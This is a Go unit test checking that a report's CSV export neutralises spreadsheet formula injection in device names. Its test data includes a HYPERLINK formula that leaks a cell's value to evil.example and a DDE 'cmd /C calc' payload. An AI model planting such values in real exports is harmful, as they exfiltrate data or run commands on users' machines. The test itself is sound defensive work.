package report

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"
)

// TestCSVCellsAreNotFormulas: a name that a spreadsheet would run as a
// formula is written with a leading apostrophe; other names and the
// numbers are written as they are.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	names := map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(1+1)":                                   "'@SUM(1+1)",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      "\uFFFD=1+1",
		"mail\u202e1":                                 "mail\uFFFD1",
		"SMTP = submission":                           "SMTP = submission",
		"mail-1":                                      "mail-1",
		"":                                            "",
	}
	rep := &Report{From: t0, To: t0.Add(time.Hour)}
	for name := range names {
		rep.Monitors = append(rep.Monitors, Row{Device: name, Monitor: name, Tests: 3, Up: 2, Down: 1, Availability: 66.667,
			RTTMin: 1500 * time.Microsecond, RTTAvg: 2 * time.Millisecond, RTTMax: 3 * time.Millisecond, passed: 2})
	}
	var b bytes.Buffer
	if err := rep.CSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != len(names)+1 {
		t.Fatalf("%v %v", recs, err)
	}
	for i, rec := range recs[1:] {
		name := rep.Monitors[i].Device
		if rec[0] != names[name] || rec[1] != names[name] {
			t.Errorf("name %q written as %q, %q; want %q", name, rec[0], rec[1], names[name])
		}
		if got := rec[4:9]; got[0] != "3" || got[1] != "2" || got[3] != "1" || got[4] != "66.667" || rec[11] != "1.500" {
			t.Errorf("numbers changed: %q", rec)
		}
	}
}
